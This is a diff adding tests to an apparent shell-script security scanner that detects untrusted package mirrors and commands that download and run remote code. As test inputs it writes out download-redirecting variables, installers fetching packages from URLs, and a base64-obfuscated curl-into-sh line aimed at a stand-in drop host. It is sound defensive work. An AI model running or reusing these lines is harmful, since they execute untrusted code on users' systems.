@@ -228,3 +228,41 @@ def test_an_upload_flag_at_the_end_of_a_cluster_of_short_options_takes_the_file(
     found = analyse_file(tmp_path, "scripts/x.sh", source, Language.SHELL)
     assert {c.detail for c in found if c.kind is Kind.EGRESS} == {"c.example.invalid"}
     assert [len(c.chain) for c in found if c.kind is Kind.EGRESS] == [3]
+
+
+def test_a_variable_that_moves_a_tools_own_binary_downloads_to_an_untrusted_host(tmp_path: Path) -> None:
+    steps = (
+        "export PUPPETEER_DOWNLOAD_BASE_URL=http://203.0.113.8/chrome\nnpm install puppeteer\n"
+        "NVM_NODEJS_ORG_MIRROR=https://nodejs.org.example.invalid/dist nvm install 22\n"
+    )
+    found = analyse_file(tmp_path, "scripts/setup.sh", steps, Language.SHELL)
+    assert {detail for kind, detail in summary(found) if kind is Kind.INSTALL_INDEX} == {
+        "http://203.0.113.8/chrome"
+    }  # a named HTTPS mirror is taken for a company's or a country's
+    assert scan_errors(tmp_path, {"scripts/setup.sh": steps}) == {("UNTRUSTED_PACKAGE_SOURCE", "scripts/setup.sh", 1)}
+
+
+def test_a_package_installer_given_a_url_runs_what_it_fetches(tmp_path: Path) -> None:
+    for command in (
+        "msiexec /qn /i https://dl.example.invalid/tools.msi",
+        "sudo rpm -Uvh https://repo.example.invalid/agent.rpm",
+        "sudo dnf install -y https://repo.example.invalid/agent.rpm",
+    ):
+        found = analyse_file(tmp_path, "scripts/setup.sh", command + "\n", Language.SHELL)
+        assert (Kind.EXEC_FETCHED, vocabulary_host(command)) in summary(found), command
+    local = analyse_file(tmp_path, "scripts/setup.sh", "msiexec /i tools.msi\nrpm -qa\n", Language.SHELL)
+    assert Kind.EXEC_FETCHED not in {c.kind for c in local}
+
+
+def vocabulary_host(command: str) -> str:
+    return command.split("://", 1)[1].split("/", 1)[0]
+
+
+def test_an_address_decoded_at_run_time_is_still_downloaded_and_run(tmp_path: Path) -> None:
+    encoded = base64.b64encode(b"https://drop.example.invalid/b.sh").decode()
+    source = f'M={encoded}\nsh -c "$(curl -fsSL $(echo $M | base64 -d))"\nsh -c "$(curl -fsSL $(echo $N | base64 -d))"\n'
+    found = analyse_file(tmp_path, "scripts/boot.sh", source, Language.SHELL)
+    assert {(k, d) for k, d in summary(found) if k is Kind.EXEC_FETCHED} == {
+        (Kind.EXEC_FETCHED, "drop.example.invalid"),
+        (Kind.EXEC_FETCHED, "?"),  # an address nobody can read before it runs is still a download that runs
+    }
